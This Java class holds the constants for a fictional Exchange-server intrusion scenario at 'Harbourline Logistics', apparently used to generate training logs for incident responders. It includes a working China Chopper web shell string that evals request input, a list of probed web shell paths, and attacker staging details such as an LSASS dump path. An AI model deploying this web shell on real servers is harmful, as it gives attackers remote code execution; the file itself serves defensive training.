package org.hygiene.content.scenario;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;

/**
 * The facts of the Harbourline scenario, in one place so that every log tells the same story and
 * docs/scenario.md can quote them. Harbourline Logistics, its people, hosts and domains are
 * fictional; every external address is in a documentation or shared range (RFC 5737, RFC 6598).
 */
final class Story {
    private Story() {}

    static final String SCENARIO = "harbourline";
    static final long SEED = 20210302L;

    // The organisation and its server.
    static final String DOMAIN = "harbourline.example";
    static final String AD_DOMAIN = "harbourline.local";
    static final String NETBIOS = "HARBOURLINE";
    static final String HOST = "EXCH01";
    static final String FQDN = "exch01.harbourline.local";
    static final String MAIL_HOST = "mail.harbourline.example";
    static final String AUTODISCOVER_HOST = "autodiscover.harbourline.example";
    static final String SERVER_IP = "10.20.0.15";
    static final String DOMAIN_SID = "S-1-5-21-3842918361-2749162037-1305872904";

    /** The Exchange install folder inside the scenario, with {@code /}. */
    static final String EXCHANGE_DIR = "Program Files/Microsoft/Exchange Server/V15/";

    static final String EXCHANGE = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";

    /** Exchange 2016 CU18, vulnerable (the fix for CU18 is 15.01.2106.013 or KB5000871). */
    static final String BUILD = "15.01.2106.002";

    static final int[] BUILD_PARTS = {15, 1, 2106, 2};

    /** CU17, the build before the upgrade on the first morning of the logs. */
    static final String OLD_BUILD = "15.01.2044.004";

    // The period the logs cover.
    static final LocalDate FIRST_DAY = LocalDate.of(2021, 2, 20);
    static final LocalDate LAST_DAY = LocalDate.of(2021, 3, 19);

    /** CU17 to CU18 upgrade: the old build logs until then. */
    static final Instant UPGRADE = Instant.parse("2021-02-20T09:12:00Z");

    /** KB5000871 installed by the administrator; later SSRF attempts fail. */
    static final Instant PATCHED = Instant.parse("2021-03-05T21:52:00Z");

    /** The responder collects the evidence. */
    static final Instant COLLECTED = Instant.parse("2021-03-19T10:05:00Z");

    // Actor 1: the early, targeted intrusion.
    static final String SSRF_IP = "198.51.100.77";
    static final String SHELL_IP = "203.0.113.45";
    static final String SHELL_UA =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                    + " Chrome/74.0.3729.1 Safari/537.36";
    static final String SSRF_DECOY = "/ecp/qy.js";
    static final Instant CHAIN_RUN_1 = Instant.parse("2021-02-26T02:14:05.120Z");

    /** Run 2 redoes the whole chain with a fresh session, then plants the script. */
    static final Instant CHAIN_RUN_2 = Instant.parse("2021-02-26T02:23:28.346Z");

    /** Run 2's Control Panel writes start here: SetObject, the reset, the failed clean-up. */
    static final Instant PLANT = Instant.parse("2021-02-26T02:23:39.610Z");

    static final String OAB_VDIR_ID = "5c1f7a2e-93d4-4b0a-8e61-2fd0c8a94b17";
    static final String CHOPPER_KEY = "hl7Kq2";
    static final String CHOPPER =
            "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()"
                    + "{eval(Request[\""
                    + CHOPPER_KEY
                    + "\"],\"unsafe\");}</script>";
    static final String SHELL_NAME = "OutlookRE.aspx";
    static final String SHELL_DIR = EXCHANGE + "FrontEnd\\HttpProxy\\owa\\auth";
    static final String SHELL_PATH = SHELL_DIR + "\\" + SHELL_NAME;
    static final String SHELL_URL = "/owa/auth/" + SHELL_NAME;
    static final Instant SHELL_WRITTEN = Instant.parse("2021-02-26T02:23:42.917Z");
    static final String LSASS_DUMP = "C:\\Windows\\Temp\\lsass.dmp";
    static final String STAGING_DIR = "C:\\ProgramData\\pst";
    static final String ARCHIVE = STAGING_DIR + "\\hl.7z";
    static final String EXPORTED_PST = STAGING_DIR + "\\mokafor.pst";
    static final String EXPORT_MAILBOX = "m.okafor";

    // Actor 2: after March 2, probing for other groups' shells.
    static final String PROBE_IP = "192.0.2.61";
    static final Instant PROBES = Instant.parse("2021-03-04T11:02:17Z");
    static final List<String> PROBED =
            List.of(
                    "/owa/auth/OutlookEN.aspx",
                    "/owa/auth/errorEE.aspx",
                    "/owa/auth/one.aspx",
                    "/owa/auth/shel90.aspx",
                    "/owa/auth/Current/themes/errorFS.aspx",
                    "/owa/auth/logg.aspx",
                    "/aspnet_client/shell.aspx",
                    "/aspnet_client/supp0rt.aspx",
                    "/aspnet_client/discover.aspx",
                    "/aspnet_client/system_web/log.aspx");

    // Traps: not compromises.
    static final String AUTODISCOVER_ONLY_IP = "198.51.100.190";
    static final Instant AUTODISCOVER_ONLY = Instant.parse("2021-03-02T21:47:33.508Z");
    static final String NMAP_IP = "10.20.0.40";
    static final Instant NMAP_CHECK = Instant.parse("2021-03-05T16:20:41.733Z");
    static final String NMAP_UA =
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";

    // After the patch: mass-exploitation attempts that fail.
    static final List<String> LATE_IPS = List.of("192.0.2.203", "198.51.100.23", "203.0.113.188");

    // The administrator.
    static final String ADMIN = "it.admin";
    static final String ADMIN_WORKSTATION_IP = "10.20.0.50";
}
